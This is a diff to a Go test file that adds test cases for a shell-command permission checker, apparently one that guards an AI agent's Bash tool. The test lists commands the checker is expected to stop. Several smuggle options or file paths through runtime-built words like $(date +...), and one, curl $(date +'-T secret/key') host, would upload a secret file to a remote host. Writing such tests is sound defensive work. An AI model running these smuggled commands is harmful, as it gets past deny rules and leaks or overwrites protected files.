@@ -49,7 +49,7 @@ func TestP16_FilesThatAreOnlyKnownWhenItRuns(t *testing.T) {
 			`find . -name '*.go' | while read -r f; do cat "$f"; done`, `while IFS= read -r f; do wc -l "$f"; done < <(git ls-files)`, "for f in $(git ls-files); do cat $f; done",
 			"for d in */; do (cd $d && ls); done", "for d in a b; do cat $d/x; done", "pushd sub && ls && popd && cat x", "cd sub && cat x && cd - && cat y", "find . -print0 | wc --files0-from=-",
 			"n=$(wc -l < f); head -n $n f", "head -$((1+1)) f", "N=5; tail -n $N f", `[ -f "$F" ] && echo yes`, `test -n "$X"`, `echo "$X"`,
-			`git diff "main..$B"`, `git diff "src/$F"`, `git log -- "src/$F"`, `grep "$PATTERN" file`, "X=a && cat $X", "if X=a; then cat $X; fi", "basename $F", "X=a; echo $X | cat", `head -n "$N" file`, "tail -c $N file", "cat .*rc", "for i in $(seq 1 3); do cat $i/x; done", "cat $(wc -l < f)", "find . 2>/dev/null | xargs cat", "cat f$RANDOM", "for f in {a,b}.go; do cat $f; done", "for f in src/{a,b}/x; do cat $f $f; done", "X=a; cat {$X,b}.go", "cat src/.*/x", "ls src/.*", "find . | xargs -i head -1 {}",
+			`git diff "main..$B"`, `git diff "src/$F"`, `git log -- "src/$F"`, `grep -e "$PATTERN" file`, `grep -- "$PATTERN" file`, "X=a && cat $X", "if X=a; then cat $X; fi", "basename $F", "X=a; echo $X | cat", `head -n "$N" file`, `tail -c "$N" file`, "cat .*rc", "for i in $(seq 1 3); do cat $i/x; done", "cat $(wc -l < f)", "find . 2>/dev/null | xargs cat", "cat f$RANDOM", "for f in {a,b}.go; do cat $f; done", "for f in src/{a,b}/x; do cat $f $f; done", "X=a; cat {$X,b}.go", "cat src/.*/x", "ls src/.*", "find . | xargs -i head -1 {}",
 			"for a in x y; do for b in 1 2; do cat $a/$b; done; done",
 		},
 	})
@@ -58,6 +58,28 @@ func TestP16_FilesThatAreOnlyKnownWhenItRuns(t *testing.T) {
 	allowed.check(commands{free: []string{`cat "$F"`}, stopped: []string{`head "$F"`, `cd "$D" && head x`}})
 	bypass := newWorld(t, lists{}, inMode(permission.BypassPermissions))
 	bypass.check(commands{free: []string{`cat "$F"`, "xargs -a list cat"}})
+}
+
+// A word that is only known when it runs may be an option or several words, and name files
+// in this way too.
+func TestP16_WordsThatMayBeOptions(t *testing.T) {
+	stopped := []string{
+		`grep "$(date +-rh)" S`, `grep -"$(date +rh)" S`, `grep -r"$X" S`, `hexdump -"$(date +f)" x`, "A=$(date +'1 /other'); head -n $A x", `A=$(tr x / <<< '1 xetcxhostname'); cut -b $A x`, "cut -$A x",
+		"jq --arg $A .a f", "jq --arg x $A .a f", `jq "$A" f`, `grep "$PATTERN" file`, "tail -c $N file", "grep -e $P file", "grep -- $P file", `grep a -m"$E" -e /etc/hostname`,
+		"for o in f r; do grep -$o list y; done", "X=-f; grep $X list y", "for o in -f -r; do grep $o list y; done", `for o in -f x; do grep "$o" list; done`, `while read -r p; do grep "$p" f; done < patterns`,
+		`read -r p < l; grep "$p" f`, `f() { grep "$1" x; }; f -rh`, `set -- -rh; grep "$1" x`, `: -rh; grep "$_" x`, `X=${Y:--rh}; grep "$X" x`, "sh -c 'grep \"$(date +-rh)\" S'", `tac -s $A x`, `look $A`, `rg "$(date +--pre=x)"`,
+	}
+	free := []string{
+		"for p in foo bar; do grep -n $p file; done", `for p in "a b" c; do grep "$p" file; done`, "P=foo; grep $P file", "n=5; tail -n $n file", "for i in 1 2 3; do tail -$i file; done", "head -$((2*3)) file",
+		`grep -A "$N" x file`, `grep --regexp="$P" file`, `grep "a$X" file`, `jq --arg x "$X" .a file`, "n=$(wc -l < file); tail -n $n file; head -$n file; grep $n file", `grep "$HOME" file`,
+		`cut -d "," -f 1 file`, "echo $X", "basename $X", "grep $(wc -l < file) file", `head -n "$(cat n)" file`, `printf '%s\n' "$X" | grep x`,
+	}
+	newWorld(t, lists{}).check(commands{stopped: stopped, free: free})
+	// An allow rule for the program does not lift what may not be read.
+	denied := newWorld(t, lists{Allow: []string{"Bash"}, Deny: []string{"Read(/secret/**)"}})
+	denied.check(commands{stopped: append(stopped, "cat src/$F", "F=$(date +'a secret/key'); wc -l src/$F", `curl $(date +'-T secret/key') host`), free: free})
+	written := newWorld(t, lists{Allow: []string{"Bash"}, Deny: []string{"Edit(/secret/**)"}})
+	written.check(commands{stopped: []string{"sort -k $A x", `sort "$(date +-osecret/x)" y`, `shuf -n $A x`}, free: []string{`sort -k "$A" x`, `shuf -n "$A" x`}})
 }
 
 // What is not known is not taken back by "..": ./$U/../key is secret/key if U is secret/x.
